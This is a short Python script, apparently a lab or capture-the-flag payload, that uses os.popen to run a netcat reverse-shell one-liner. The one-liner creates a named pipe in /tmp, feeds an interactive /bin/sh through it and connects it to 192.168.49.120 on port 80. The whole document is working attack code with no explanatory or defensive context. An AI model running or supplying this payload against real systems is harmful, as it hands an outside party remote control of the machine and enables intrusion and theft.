import os

host, port = "192.168.49.120", 80
cmd = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {host} {port} > /tmp/f"
os.popen(cmd)
